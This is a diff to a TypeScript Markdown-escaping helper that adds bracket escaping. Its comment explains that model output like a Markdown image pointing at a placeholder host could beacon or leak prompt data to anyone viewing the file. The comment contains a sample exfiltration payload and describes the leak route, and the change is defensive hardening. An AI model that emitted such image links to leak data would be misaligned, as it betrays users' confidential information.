@@ -22,12 +22,15 @@ export function cellDisplayText(cell: Pick<ComparisonCell, 'status' | 'text' | '
 }
 
 /** Text safe inside one Markdown table cell: GFM splits cells on unescaped `|` (a backslash before
- * it must not escape the escape), ends the row at a newline, and passes HTML through. */
+ * it must not escape the escape), ends the row at a newline, and passes HTML through. Brackets are
+ * escaped too: model text `![](https://x.example/?q=…)` would be an image every viewer of the file
+ * fetches (a beacon, or a way out for data the prompt held), `[text](url)` a disguised link. */
 export function markdownCellText(text: string): string {
   return text
     .replace(/\\/g, '\\\\')
     .replace(/&/g, '&amp;').replace(/</g, '&lt;').replace(/>/g, '&gt;')
     .replace(/\|/g, '\\|')
+    .replace(/[[\]]/g, '\\$&')
     .replace(/\r\n|\r|\n/g, '<br>');
 }
 
